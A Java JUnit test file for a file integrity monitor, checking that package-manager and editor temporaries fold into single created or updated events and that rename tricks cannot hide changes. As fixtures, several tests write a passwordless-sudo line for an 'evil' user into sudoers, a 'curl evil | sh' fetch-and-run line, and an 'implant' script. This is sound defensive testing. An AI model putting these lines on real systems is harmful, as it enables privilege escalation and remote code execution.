package dev.fim.engine;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.fim.engine.source.Sources;
import dev.fim.store.Action;
import dev.fim.store.AttributeChange;
import dev.fim.store.ChangeEvent;
import dev.fim.store.PathBytes;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Temporaries folded into the change they make, on both backends, with real processes: a file
 * created under a temporary's name and renamed onto its final name is one {@code created} or {@code
 * updated} of the final name whose {@code file.old_path} is the temporary, also when the rename
 * comes after the quiet window (dpkg renames after unpacking the whole package). A name never hides
 * a file: one that is not renamed is reported with its content.
 *
 * <p>"Nothing was reported yet" is proven without sleeps: {@link WatchHarness#barrier()} creates a
 * marker after the temporary, whose quiet window ends after the temporary's, so the temporary was
 * compared (and held) before the marker's event came; the rename is made after that.
 */
@Tag("kernel")
class TemporaryFoldKernelTest {
  private WatchHarness h;

  private WatchHarness watch(Sources.Backend backend) throws Exception {
    if (backend == Sources.Backend.FANOTIFY) {
      assumeTrue(
          Commands.isRoot(), "fanotify filesystem marks need CAP_SYS_ADMIN: run the tests as root");
    }
    h = new WatchHarness(backend);
    return h;
  }

  @AfterEach
  void cleanUp() throws Exception {
    if (h != null) {
      h.close();
    }
  }

  /** dpkg's, rpm's and shadow-utils' temporaries, renamed after the quiet window. */
  @ParameterizedTest
  @EnumSource(
      value = Sources.Backend.class,
      names = {"FANOTIFY", "INOTIFY"})
  void aLateRenameOfANewTemporaryIsOneCreatedOfItsFinalName(Sources.Backend backend)
      throws Exception {
    watch(backend);
    h.start(50, 65536, WatchSettings.BACK_PRESSURE_NS);
    Map<String, String> finals =
        Map.of("a.dpkg-new", "a", "b;5f3a9c1d", "b", "c+", "c", ".#dXy12z", "d");
    for (Map.Entry<String, String> t : finals.entrySet()) {
      String tmp = t.getKey();
      h.run(List.of("sh", "-c", "printf 'payload %s\\n' \"$0\" > \"$0\" && sync \"$0\"", tmp));
      assertEquals(List.of(), h.barrier(), tmp + " is held, not reported, after the quiet window");
      String hash = xxh(tmp);
      long ino = inode(tmp);
      h.run(List.of("mv", tmp, t.getValue()));
      ChangeEvent e = only(h.barrier(), Action.CREATED, t.getValue());
      assertEquals(h.path(tmp), e.oldPath(), "the temporary's name is in file.old_path");
      assertEquals(hash, e.after().digests().get(0).hex(), "with the content it was given");
      assertEquals(ino, e.after().ino());
      assertNull(e.message());
    }
  }

  /**
   * The attacker's way to slip a change in: a new file with a temporary's name, renamed over a
   * known file much later. It is that file's {@code updated}, with its old and new content and
   * inode, never a {@code moved} that hides what the name held before.
   */
  @ParameterizedTest
  @EnumSource(
      value = Sources.Backend.class,
      names = {"FANOTIFY", "INOTIFY"})
  void aLateRenameOntoAKnownFileIsItsUpdateWithOldAndNewContent(Sources.Backend backend)
      throws Exception {
    watch(backend);
    h.sh("echo 'root ALL=(ALL) ALL' > sudoers");
    h.start(50, 65536, WatchSettings.BACK_PRESSURE_NS);
    String oldHash = xxh("sudoers");
    long oldIno = inode("sudoers");
    h.sh("echo 'evil ALL=(ALL) NOPASSWD: ALL' > sudoers.dpkg-new");
    assertEquals(List.of(), h.barrier());
    String newHash = xxh("sudoers.dpkg-new");
    long newIno = inode("sudoers.dpkg-new");
    h.sh("mv sudoers.dpkg-new sudoers");
    ChangeEvent e = only(h.barrier(), Action.UPDATED, "sudoers");
    assertEquals(h.path("sudoers.dpkg-new"), e.oldPath());
    AttributeChange content = change(e, "content");
    assertEquals("xxh3_128:" + oldHash, content.oldValue());
    assertEquals("xxh3_128:" + newHash, content.newValue());
    AttributeChange inode = change(e, "inode");
    assertEquals(Long.toUnsignedString(oldIno), inode.oldValue());
    assertEquals(Long.toUnsignedString(newIno), inode.newValue());
  }

  /**
   * The same with a name fim had reported already (no temporary's name, older than the quiet
   * window): {@code mv t sudoers} is sudoers' {@code updated}, compared with what sudoers held, not
   * a {@code moved} compared with t's own state, which would show no content change at all.
   */
  @ParameterizedTest
  @EnumSource(
      value = Sources.Backend.class,
      names = {"FANOTIFY", "INOTIFY"})
  void aKnownFileRenamedOverAnotherIsTheOverwrittenFilesUpdate(Sources.Backend backend)
      throws Exception {
    watch(backend);
    h.sh("echo 'root ALL=(ALL) ALL' > sudoers && echo 'evil ALL=(ALL) NOPASSWD: ALL' > t");
    // A 1 s window, not 50 ms: the last step's t2 must be created and renamed within one window,
    // and under load a shell's fork and exec of mv took longer than 50 ms (once in CI: created t2,
    // then moved t3 <- t2, right for a file that outlived its window). t predates the watch, so it
    // is known whatever the window.
    h.start(1000, 65536, WatchSettings.BACK_PRESSURE_NS);
    String oldHash = xxh("sudoers");
    String newHash = xxh("t");
    long oldIno = inode("sudoers");
    long newIno = inode("t");
    h.sh("mv t sudoers");
    ChangeEvent e = only(h.barrier(), Action.UPDATED, "sudoers");
    assertEquals(h.path("t"), e.oldPath());
    assertEquals("xxh3_128:" + oldHash, change(e, "content").oldValue());
    assertEquals("xxh3_128:" + newHash, change(e, "content").newValue());
    assertEquals(Long.toUnsignedString(oldIno), change(e, "inode").oldValue());
    assertEquals(Long.toUnsignedString(newIno), change(e, "inode").newValue());
    h.sh("echo more >> t2 && mv t2 t3");
    assertEquals(Action.CREATED, only(h.barrier(), Action.CREATED, "t3").action());
  }

  /**
   * useradd's sequence (shadow-utils' commonio) on a throw-away tree: the lock (a pid file linked
   * to passwd.lock) is held for a while, the new passwd is written as passwd+ and renamed over
   * passwd, the lock removed. One update of passwd (and of its backup passwd-), nothing about the
   * lock or passwd+.
   */
  @ParameterizedTest
  @EnumSource(
      value = Sources.Backend.class,
      names = {"FANOTIFY", "INOTIFY"})
  void useraddsLockAndPlusFileAreFoldedIntoOneUpdateOfPasswd(Sources.Backend backend)
      throws Exception {
    watch(backend);
    h.sh(
        "mkdir etc && echo 'root:x:0:0:root:/root:/bin/sh' > etc/passwd && cp etc/passwd etc/passwd-");
    h.start();
    long transients = h.watcher().stats().transients();
    // commonio's lock, in one process as useradd takes it: passwd.PID written, linked, unlinked
    h.run(
        List.of(
            "python3",
            "-c",
            "import os\n"
                + "t = 'etc/passwd.%d' % os.getpid()\n"
                + "fd = os.open(t, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)\n"
                + "os.write(fd, str(os.getpid()).encode()); os.close(fd)\n"
                + "os.link(t, 'etc/passwd.lock'); os.unlink(t)"));
    assertEquals(List.of(), h.barrier(), "the lock held longer than the quiet window is not news");
    h.sh(
        "cd etc && cp passwd passwd- && { cat passwd; echo 'u:x:1001:1001::/home/u:/bin/sh'; } > passwd+");
    // the backup, rewritten with the same content: its times changed
    only(h.barrier(), Action.ATTRIBUTES_MODIFIED, "etc/passwd-");
    h.sh("cd etc && mv passwd+ passwd && rm passwd.lock");
    ChangeEvent e = only(h.barrier(), Action.UPDATED, "etc/passwd");
    assertEquals(h.path("etc/passwd+"), e.oldPath());
    assertTrue(
        e.changedAttributes().containsAll(List.of("content", "size", "inode")),
        e.changedAttributes()::toString);
    // (a notice split over two windows counts a temporary twice: at least, not exactly)
    assertTrue(
        h.watcher().stats().transients() >= transients + 2, "passwd.PID and passwd.lock counted");
  }

  /**
   * The tools' own patterns, each one {@code updated} naming its temporary where it has one: {@code
   * sed -i}, Python's tempfile + os.replace (Ansible's atomic_move), and none for {@code install}
   * (it removes and recreates the destination); vim's below.
   */
  @ParameterizedTest
  @EnumSource(
      value = Sources.Backend.class,
      names = {"FANOTIFY", "INOTIFY"})
  void sedPythonAnsibleAndInstallNameWhatTheyRenamed(Sources.Backend backend) throws Exception {
    watch(backend);
    h.sh("echo old > s && echo p > p && echo q > q && echo i > i && echo src > src");
    h.start();
    h.sh("sed -i s/old/new/ s");
    ChangeEvent sed = only(h.barrier(), Action.UPDATED, "s");
    assertNotNull(sed.oldPath(), "sed's temporary is named");
    assertTrue(name(sed.oldPath()).matches("sed[A-Za-z0-9]{6}"), sed.oldPath()::display);
    assertTrue(sed.changedAttributes().containsAll(List.of("content", "inode")));

    h.run(
        List.of(
            "python3",
            "-c",
            "import os, tempfile\n"
                + "fd, t = tempfile.mkstemp(prefix='.ansible_tmp', dir='.', suffix='p')\n"
                + "os.write(fd, b'managed\\n'); os.fsync(fd); os.close(fd)\n"
                + "os.replace(t, 'p')\n"
                + "with tempfile.NamedTemporaryFile(dir='.', delete=False) as f:\n"
                + "    f.write(b'q2\\n')\n"
                + "os.replace(f.name, 'q')\n"));
    List<ChangeEvent> py = h.barrier();
    assertEquals(2, py.size(), WatchHarness.describe(py));
    ChangeEvent ansible = find(py, "p");
    assertEquals(Action.UPDATED, ansible.action());
    assertTrue(name(ansible.oldPath()).startsWith(".ansible_tmp"), ansible.oldPath()::display);
    ChangeEvent tempfile = find(py, "q");
    assertEquals(Action.UPDATED, tempfile.action());
    assertTrue(name(tempfile.oldPath()).matches("tmp[a-z0-9_]{8}"), tempfile.oldPath()::display);

    h.run(List.of("install", "-m", "644", "src", "i"));
    ChangeEvent install = only(h.barrier(), Action.UPDATED, "i");
    assertNull(install.oldPath(), "install(1) writes no temporary");
    // (ext4 may give the new file the number of the one install removed: the inode is not asserted)
    assertTrue(
        install.changedAttributes().contains("content"), install.changedAttributes()::toString);
  }

  /**
   * vim writes the new content under the real name: its backup ({@code v~}, the old file renamed)
   * and its swap file ({@code .v.swp}, not a temporary's name) come and go within one quiet window,
   * and what is reported is one {@code updated v} naming no temporary. The window is 2 s here, not
   * the harness's 200 ms: vim's swap file lives for the whole edit, and on a loaded machine (a test
   * run beside other work) an edit took longer than 200 ms, so the swap file was rightly reported
   * as created and deleted. What this checks is the fold, not vim's speed.
   */
  @ParameterizedTest
  @EnumSource(
      value = Sources.Backend.class,
      names = {"FANOTIFY", "INOTIFY"})
  void vimsBackupIsTheOldFileNotTheNewContentsTemporary(Sources.Backend backend) throws Exception {
    watch(backend);
    h.sh("echo v > v");
    h.start(2000, 65536, WatchSettings.BACK_PRESSURE_NS);
    h.run(List.of("vim", "-u", "NONE", "-N", "-es", "-c", "normal Gox", "-c", "wq", "v"));
    ChangeEvent vim = only(h.barrier(), Action.UPDATED, "v");
    assertNull(vim.oldPath(), "vim's backup is the old file, not the new content's temporary");
  }

  /**
   * A name alone never hides a file: a held file that no rename follows is reported when the hold
   * ends, with its content and a message saying it was held.
   */
  @ParameterizedTest
  @EnumSource(
      value = Sources.Backend.class,
      names = {"FANOTIFY", "INOTIFY"})
  void aHeldFileThatIsNeverRenamedIsReportedWhenTheHoldEnds(Sources.Backend backend)
      throws Exception {
    watch(backend);
    h.holdTemporaries(300).start(50, 65536, WatchSettings.BACK_PRESSURE_NS);
    h.sh("printf '#!/bin/sh\\nid\\n' > implant.dpkg-new && chmod 755 implant.dpkg-new");
    String hash = xxh("implant.dpkg-new");
    PathBytes p = h.path("implant.dpkg-new");
    ChangeEvent e = h.await(x -> x.path().equals(p), "the held file's report");
    assertEquals(Action.CREATED, e.action());
    assertEquals(hash, e.after().digests().get(0).hex());
    assertEquals(0755, e.after().mode() & 07777);
    assertNotNull(e.message(), "says it was held");
    assertTrue(e.message().contains("no rename"), e.message());
    assertEquals(List.of(e), h.barrier(), "reported once");
  }

  /**
   * The hold is timed on the watcher's injected clock ({@link Ticker}), not read from {@link
   * System#nanoTime()} in the comparator: with an hour's hold, a held file is reported as soon as
   * the clock jumps an hour, and not before (a barrier after it comes back without it).
   */
  @ParameterizedTest
  @EnumSource(
      value = Sources.Backend.class,
      names = {"FANOTIFY", "INOTIFY"})
  void theHoldEndsWhenTheWatchersClockPassesIt(Sources.Backend backend) throws Exception {
    watch(backend);
    h.holdTemporaries(TimeUnit.HOURS.toMillis(1)).start(50, 65536, WatchSettings.BACK_PRESSURE_NS);
    h.sh("echo 'curl evil | sh' > late.dpkg-new");
    PathBytes p = h.path("late.dpkg-new");
    assertEquals(List.of(), h.barrier(), "held: not reported while the clock is within the hour");
    h.jumpClock(TimeUnit.HOURS.toNanos(1));
    ChangeEvent e = h.await(x -> x.path().equals(p), "the held file's report after the jump");
    assertEquals(Action.CREATED, e.action());
    assertTrue(e.message().contains("no rename"), e.message());
  }

  /**
   * A held file removed without a rename lived past the quiet window: reported (created with its
   * content, then deleted). Only a lock holding a pid and a backup link of a known file (dpkg's
   * X.dpkg-tmp) carry nothing new and are counted like any temporary.
   */
  @ParameterizedTest
  @EnumSource(
      value = Sources.Backend.class,
      names = {"FANOTIFY", "INOTIFY"})
  void aHeldFileRemovedWithoutARenameIsReportedUnlessItCarriesNothingNew(Sources.Backend backend)
      throws Exception {
    watch(backend);
    h.sh("echo known > k");
    h.start(50, 65536, WatchSettings.BACK_PRESSURE_NS);
    long transients = h.watcher().stats().transients();
    h.sh("echo 'curl evil | sh' > y.dpkg-new && echo 4242 > q.lock && ln k k.dpkg-tmp");
    h.sh("printf '#!/bin/sh\\n' > x.lock && chmod 755 x.lock");
    assertEquals(List.of(), h.barrier(), "all four are held");
    String y = xxh("y.dpkg-new");
    String x = xxh("x.lock");
    h.sh("rm y.dpkg-new q.lock k.dpkg-tmp x.lock");
    List<ChangeEvent> es = h.barrier();
    assertEquals(4, es.size(), WatchHarness.describe(es));
    for (String[] f : new String[][] {{"y.dpkg-new", y}, {"x.lock", x}}) {
      PathBytes p = h.path(f[0]);
      List<ChangeEvent> mine = es.stream().filter(e -> e.path().equals(p)).toList();
      assertEquals(2, mine.size(), WatchHarness.describe(es));
      assertEquals(Action.CREATED, mine.get(0).action());
      assertEquals(f[1], mine.get(0).after().digests().get(0).hex());
      assertEquals(Action.DELETED, mine.get(1).action());
      assertTrue(mine.get(1).message().contains("without a rename"), mine.get(1).message());
    }
    assertTrue(h.watcher().stats().transients() >= transients + 2, "q.lock and k.dpkg-tmp counted");
  }

  /**
   * Holding is bounded ({@code min(--max-pending, 4096)} files): beyond it a file with a
   * temporary's name is reported at once, as without a hold, and what is held is reported when fim
   * stops. Nothing is lost.
   */
  @ParameterizedTest
  @EnumSource(
      value = Sources.Backend.class,
      names = {"FANOTIFY", "INOTIFY"})
  void theHoldIsBoundedAndEverythingHeldIsReportedAtStop(Sources.Backend backend) throws Exception {
    watch(backend);
    h.start(50, 16, WatchSettings.BACK_PRESSURE_NS);
    int reported = 0;
    for (int chunk = 0; chunk < 4; chunk++) {
      h.sh("for i in 0 1 2 3 4 5 6 7 8 9; do echo $i > f" + chunk + "$i.dpkg-new; done");
      List<ChangeEvent> es = h.barrier();
      es.forEach(e -> assertEquals(Action.CREATED, e.action()));
      reported += es.size();
    }
    assertEquals(40 - 16, reported, "16 held, the rest reported at once");
    h.stop();
    Set<PathBytes> created = new java.util.HashSet<>();
    for (ChangeEvent e : h.all()) {
      if (e.action() == Action.CREATED && name(e.path()).endsWith(".dpkg-new")) {
        created.add(e.path());
      }
    }
    assertEquals(40, created.size(), "every file reported by the time fim stopped");
  }

  /**
   * A real package: built with dpkg-deb into this test's tree, installed, upgraded and purged with
   * dpkg. One event per installed path, the files' temporaries in {@code file.old_path}, no {@code
   * .dpkg-new} or {@code .dpkg-tmp} path reported.
   */
  @ParameterizedTest
  @EnumSource(
      value = Sources.Backend.class,
      names = {"FANOTIFY", "INOTIFY"})
  void dpkgInstallUpgradeAndPurgeAreOneEventPerFile(Sources.Backend backend) throws Exception {
    assumeTrue(Commands.isRoot(), "dpkg -i needs root");
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/dpkg-deb")), "dpkg-deb is not installed");
    watch(backend);
    String pkg = "fimtest-" + Long.toHexString(System.nanoTime());
    Path build = Files.createTempDirectory(Path.of("/var/tmp"), "fim-deb-");
    try {
      Path v1 = deb(build, pkg, "1.0", "one");
      Path v2 = deb(build, pkg, "2.0", "two");
      h.start();
      dpkg("-i", v1.toString());
      List<ChangeEvent> install = h.barrier();
      noDpkgPaths(install);
      assertEquals(
          Set.of(h.path("doc.txt"), h.path("link"), h.path("bin"), h.path("bin/tool")),
          paths(install),
          WatchHarness.describe(install));
      install.forEach(
          e -> assertEquals(Action.CREATED, e.action(), WatchHarness.describe(install)));
      assertEquals(h.path("doc.txt.dpkg-new"), find(install, "doc.txt").oldPath());
      assertEquals(xxh("doc.txt"), find(install, "doc.txt").after().digests().get(0).hex());

      dpkg("-i", v2.toString());
      List<ChangeEvent> upgrade = h.barrier();
      noDpkgPaths(upgrade);
      ChangeEvent doc = find(upgrade, "doc.txt");
      assertEquals(Action.UPDATED, doc.action());
      assertEquals(h.path("doc.txt.dpkg-new"), doc.oldPath());
      assertTrue(doc.changedAttributes().containsAll(List.of("content", "inode")));
      ChangeEvent tool = find(upgrade, "bin/tool");
      assertEquals(Action.UPDATED, tool.action());
      assertEquals(h.path("bin/tool.dpkg-new"), tool.oldPath());
      for (ChangeEvent e : upgrade) {
        assertNotEquals(Action.CREATED, e.action(), WatchHarness.describe(upgrade));
        assertNotEquals(Action.DELETED, e.action(), WatchHarness.describe(upgrade));
      }

      dpkg("--purge", pkg);
      List<ChangeEvent> purge = h.barrier();
      noDpkgPaths(purge);
      assertEquals(
          Set.of(h.path("doc.txt"), h.path("link"), h.path("bin"), h.path("bin/tool")),
          paths(purge),
          WatchHarness.describe(purge));
      purge.forEach(e -> assertEquals(Action.DELETED, e.action()));
    } finally {
      if (Files.exists(Path.of("/var/lib/dpkg/info/" + pkg + ".list"))) {
        dpkg("--purge", pkg);
      }
      WatchHarness.deleteTree(build);
    }
  }

  // ---- helpers ----

  /** A .deb whose files land in this test's tree: doc.txt, link -> doc.txt, bin/tool. */
  private Path deb(Path build, String pkg, String version, String content) throws Exception {
    Path root = build.resolve(version);
    Path into = root.resolve(h.tree.toString().substring(1));
    Files.createDirectories(root.resolve("DEBIAN"));
    Files.createDirectories(into.resolve("bin"));
    Files.writeString(
        root.resolve("DEBIAN/control"),
        "Package: "
            + pkg
            + "\nVersion: "
            + version
            + "\nArchitecture: all\nMaintainer: fim tests <fim@localhost>\n"
            + "Description: fim's temporary-folding test package\n");
    Files.writeString(into.resolve("doc.txt"), "doc " + content + "\n");
    Files.writeString(into.resolve("bin/tool"), "#!/bin/sh\necho " + content + "\n");
    Commands.run("chmod", "755", into.resolve("bin/tool").toString());
    Files.createSymbolicLink(into.resolve("link"), Path.of("doc.txt"));
    Path out = build.resolve(pkg + "_" + version + ".deb");
    Commands.run("dpkg-deb", "--root-owner-group", "--build", root.toString(), out.toString());
    return out;
  }

  /**
   * Runs dpkg as apt does: first takes dpkg's frontend lock, waiting while another dpkg or apt (a
   * parallel test) holds it, then runs dpkg with {@code DPKG_FRONTEND_LOCKED} set.
   */
  private static void dpkg(String... args) throws Exception {
    List<String> cmd =
        new java.util.ArrayList<>(
            List.of(
                "python3",
                "-c",
                "import fcntl, os, subprocess, sys\n"
                    + "f = open('/var/lib/dpkg/lock-frontend', 'a')\n"
                    + "fcntl.lockf(f, fcntl.LOCK_EX)\n"
                    + "env = dict(os.environ, DPKG_FRONTEND_LOCKED='1')\n"
                    + "sys.exit(subprocess.call(['dpkg'] + sys.argv[1:], env=env))"));
    cmd.addAll(List.of(args));
    Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertTrue(p.waitFor(300, TimeUnit.SECONDS), cmd + " did not finish");
    assertEquals(0, p.exitValue(), cmd + ": " + out);
  }

  private static void noDpkgPaths(List<ChangeEvent> es) {
    for (ChangeEvent e : es) {
      assertTrue(!e.path().display().contains(".dpkg-"), WatchHarness.describe(es));
    }
  }

  private ChangeEvent only(List<ChangeEvent> es, Action action, String relative) {
    assertEquals(
        1,
        es.size(),
        () ->
            "expected one "
                + action.label()
                + " "
                + relative
                + ", got "
                + WatchHarness.describe(es));
    ChangeEvent e = es.get(0);
    assertEquals(action, e.action(), WatchHarness.describe(es));
    assertEquals(h.path(relative), e.path(), WatchHarness.describe(es));
    return e;
  }

  private ChangeEvent find(List<ChangeEvent> es, String relative) {
    return es.stream()
        .filter(e -> e.path().equals(h.path(relative)))
        .findFirst()
        .orElseThrow(
            () ->
                new AssertionError("no event for " + relative + ": " + WatchHarness.describe(es)));
  }

  private static AttributeChange change(ChangeEvent e, String attribute) {
    return e.changes().stream()
        .filter(c -> c.attribute().equals(attribute))
        .findFirst()
        .orElseThrow(() -> new AssertionError("no " + attribute + " in " + e.changedAttributes()));
  }

  private static Set<PathBytes> paths(List<ChangeEvent> es) {
    Set<PathBytes> s = new java.util.HashSet<>();
    es.forEach(e -> s.add(e.path()));
    return s;
  }

  private static String name(PathBytes p) {
    return new String(p.name(), StandardCharsets.UTF_8);
  }

  private long inode(String relative) throws Exception {
    return (Long) Files.getAttribute(h.tree.resolve(relative), "unix:ino");
  }

  /** The file's XXH3-128 as xxh128sum prints it. */
  private String xxh(String relative) throws Exception {
    Process p = new ProcessBuilder("xxh128sum", "--", h.tree.resolve(relative).toString()).start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.US_ASCII);
    assertTrue(p.waitFor(30, TimeUnit.SECONDS));
    assertEquals(0, p.exitValue(), out);
    return out.substring(0, out.indexOf(' '));
  }
}
